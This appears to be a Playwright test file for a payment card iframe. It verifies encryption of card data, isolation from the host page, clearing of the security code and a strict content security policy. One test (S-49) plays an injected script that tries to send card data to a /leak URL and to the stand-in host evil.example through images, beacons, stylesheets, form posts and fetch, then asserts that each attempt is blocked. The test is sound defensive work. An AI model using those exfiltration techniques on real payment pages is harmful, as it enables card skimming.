import { SEALED_FOR } from './card-frame-host.ts'
import { CardFrame, expect, type HostWindow, test } from './card-frame-fixtures.ts'

test.describe('A card', () => {
  test.afterEach(({ host }) => {
    host.sealing = undefined
  })

  test('S-51: reaches the processor whole, and the page only as ciphertext, brand and last four digits', async ({
    card,
    host,
  }) => {
    await card.fill()
    await card.seal(7)
    const { encrypted, ...rest } = await card.waitFor('sealed')
    expect(rest).toEqual({ type: 'sealed', id: 7, brand: 'visa', lastFour: '4242' })
    const { card: typed } = await host.open(encrypted)
    expect(typed).toEqual({
      number: '4242424242424242',
      expiryMonth: 12,
      expiryYear: 2034,
      securityCode: '123',
      name: 'ANA ÇALIŞKAN',
    })
  })

  for (const alg of ['RSA-OAEP-256', 'RSA-OAEP'] as const)
    for (const enc of ['A256GCM', 'A256CBC-HS512'] as const)
      test(`S-162: is sealed by ${alg} with ${enc} where the key says so, and the frame loads nothing for it`, async ({
        host,
        page,
      }) => {
        const header = { version: '1', kid: 'ab12' } as const
        host.sealing = { scheme: 'adyen-jwe', alg, enc, header }
        const before = host.asked.length
        await page.goto(host.pageUrl())
        const card = new CardFrame(page)
        await card.waitFor('state')
        await card.fill()
        await card.seal(7)
        const opened = await host.open((await card.waitFor('sealed')).encrypted)
        expect(opened.header).toEqual({ alg, enc, ...header })
        expect(opened.card).toEqual({
          number: '4242424242424242',
          expiryMonth: '12',
          expiryYear: '2034',
          cvc: '123',
          holderName: 'ANA ÇALIŞKAN',
          // The server's time, whatever the device's clock says.
          generationtime: expect.stringMatching(/^2026-11-20T12:0\d:\d\d\.\d{3}Z$/),
        })
        expect(host.asked.slice(before)).toHaveLength(1)
      })

  test('S-111: is sealed for the session of its frame, and the page chooses plan and key alone', async ({
    card,
    host,
  }) => {
    const { plans, ...session } = SEALED_FOR
    await card.fill()
    await card.ask({
      type: 'seal',
      id: 7,
      installments: 3,
      idempotencyKey: 'key-7',
      sessionId: 'cs_1',
      merchantId: 'other',
      currency: 'USD',
      amount: 1,
      plans: [],
    })
    const { envelope } = await host.open((await card.waitFor('sealed')).encrypted)
    expect(envelope).toEqual({
      ...session,
      amount: plans[1]?.amount,
      installments: 3,
      idempotencyKey: 'key-7',
      encrypted: expect.stringMatching(/^[\w-]+(\.[\w-]+){4}$/),
      sealedAt: expect.stringMatching(/^2026-11-20T12:0/),
    })
    await card.seal(8, { installments: 2 })
    expect(await card.waitFor('failed')).toEqual({ type: 'failed', id: 8 })
  })

  test('S-111: is sealed again for the same key after its code was cleared, and for no other', async ({
    card,
    host,
  }) => {
    await card.fill()
    await card.seal(1)
    const first = await card.waitFor('sealed')
    await card.ask({ type: 'forget-code' })
    await card.seal(2, { idempotencyKey: 'key-1' })
    await expect.poll(async () => (await card.waitFor('sealed')).id).toBe(2)
    const again = await card.waitFor('sealed')
    expect(again.encrypted).not.toBe(first.encrypted)
    const [one, other] = [await host.open(first.encrypted), await host.open(again.encrypted)]
    expect(other.envelope.encrypted).toBe(one.envelope.encrypted)
    await card.seal(3)
    expect((await card.waitFor('faulty')).faults).toEqual({ 'card-code': 'missing' })
  })

  test('S-51 S-65: is in no message to the page and in nothing that the page can reach', async ({
    card,
    page,
  }) => {
    await card.fill('4000 0566 5566 5556', '987')
    await card.seal(1)
    await card.waitFor('sealed')
    await card.ask({ type: 'show', faults: { 'card-code': 'again' } })
    const messages = await card.messages()
    const all = JSON.stringify(messages.map((message) => ({ ...message, encrypted: '' })))
    for (const secret of ['4000', '0566', '400005665566', '987', '12 / 34', '1234', 'ANA', '2034'])
      expect(all).not.toContain(secret)
    expect(await page.evaluate(() => document.querySelector('iframe')?.contentDocument)).toBeNull()
    const reached = await page.evaluate(() => {
      try {
        return String(window.frames[0]?.document.title)
      } catch (error) {
        return (error as Error).name
      }
    })
    expect(reached).toBe('SecurityError')
    const stored = await page
      .frames()[1]
      ?.evaluate(async () => [
        localStorage.length,
        sessionStorage.length,
        document.cookie,
        (await indexedDB.databases()).length,
      ])
    expect(stored).toEqual([0, 0, '', 0])
  })

  test('with an invalid field is not encrypted', async ({ card }) => {
    await card.number.fill('4242 4242 4242 4241')
    await card.seal(3)
    expect(await card.waitFor('faulty')).toEqual({
      type: 'faulty',
      id: 3,
      faults: {
        'card-number': 'wrong',
        'card-expiry': 'missing',
        'card-code': 'missing',
        'card-name': 'missing',
      },
    })
    await expect(card.code).toHaveAccessibleDescription('Enter the security code.')
    expect((await card.messages()).some(({ type }) => type === 'sealed')).toBe(false)
  })

  test('S-66: loses its security code after use and when the page is left', async ({
    card,
    page,
    host,
  }) => {
    await card.fill()
    await card.ask({ type: 'forget-code' })
    await expect(card.code).toHaveValue('')
    await expect(card.number).toHaveValue('4242 4242 4242 4242')

    await card.code.fill('123')
    await page.goto(`${host.fieldsUrl}/elsewhere`)
    await page.goBack()
    await expect(card.number).toBeVisible()
    await expect(card.code).toHaveValue('')
  })
})

test.describe('S-51: the frame', () => {
  test('ignores messages outside its port and its protocol', async ({ card, page }) => {
    await card.fill()
    const before = await card.messages()
    await page.evaluate(() => {
      const frame = window.frames[0]
      const { port1, port2 } = new MessageChannel()
      port1.addEventListener('message', ({ data }) => {
        ;(window as unknown as HostWindow).messages.push(data)
      })
      port1.start()
      const sealFor = { installments: 1, idempotencyKey: 'key' }
      frame?.postMessage({ type: 'seal', id: 1, ...sealFor }, '*')
      frame?.postMessage({ type: 'card-frame-ready' }, '*', [port2])
      frame?.postMessage({ type: 'forget-code' }, '*')
      port1.postMessage({ type: 'seal', id: 2, ...sealFor })
    })
    const odd = [
      { type: 'seal', id: 1 },
      { type: 'seal', id: '1', installments: 1, idempotencyKey: 'key' },
      { type: 'seal', id: 1, installments: 1, idempotencyKey: '' },
      { type: 'focus', field: 'email' },
    ]
    for (const message of [...odd, { type: 'read' }, { type: 'show', faults: { email: 'wrong' } }])
      await card.ask(message)
    // A port delivers in order: a response to this proves that the earlier messages were read.
    await card.seal(9)
    expect((await card.waitFor('sealed')).id).toBe(9)
    expect(await card.messages()).toHaveLength(before.length + 1)
    await expect(card.code).toHaveValue('123')
  })

  test('S-50: cannot be embedded by another site', async ({ page, host }) => {
    const refused = page.waitForEvent('console', (message) =>
      message.text().includes('frame-ancestors'),
    )
    await page.goto(host.strangerUrl)
    await refused
    await expect(page.frameLocator('iframe').getByLabel('Card number')).toHaveCount(0)
  })

  test('S-49: cannot send data anywhere, even with an injected script', async ({
    card,
    page,
    host,
  }) => {
    await card.fill()
    const frame = page.frames()[1]
    const failed = await frame?.evaluate(async () => {
      const url = `${location.origin}/leak`
      const refused = new Set<string>()
      Object.assign(window, { refused })
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        refused.add(effectiveDirective)
      })
      new Image().src = url
      navigator.sendBeacon(url, 'card')
      const link = document.createElement('link')
      Object.assign(link, { rel: 'stylesheet', href: url })
      const style = document.createElement('style')
      style.textContent = `body { background: url(${url}) }`
      const inner = document.createElement('iframe')
      inner.src = url
      document.head.append(link, style, inner)
      const form = document.querySelector('form')
      form?.setAttribute('method', 'post')
      form?.setAttribute('action', url)
      form?.submit()
      const asked = await Promise.allSettled([fetch(url), fetch('https://evil.example/')])
      return asked.map(({ status }) => status)
    })
    expect(failed).toEqual(['rejected', 'rejected'])
    const refused = () =>
      frame?.evaluate(() => [...(window as unknown as { refused: Set<string> }).refused].toSorted())
    await expect
      .poll(refused)
      .toEqual(['connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem'])
    const ran = await frame?.evaluate(() => {
      try {
        const script = document.createElement('script')
        script.text = 'window.ran = true'
        document.head.append(script)
      } catch (error) {
        return (error as Error).name
      }
      return 'ran' in window
    })
    expect(ran).toBe('TypeError')
    expect(host.asked).not.toContain('/leak')
  })

  test('makes one request, and its own script violates no policy', async ({ page, host }) => {
    const requests: string[] = []
    const consoleMessages: string[] = []
    page.on('request', (request) => requests.push(request.url()))
    page.on('console', (message) => consoleMessages.push(message.text()))
    await page.goto(host.pageUrl())
    const card = new CardFrame(page)
    await card.fill()
    await card.seal(1)
    await card.waitFor('sealed')
    expect(requests.filter((url) => url.startsWith(host.fieldsUrl))).toHaveLength(1)
    expect(consoleMessages).toEqual([])
  })
})
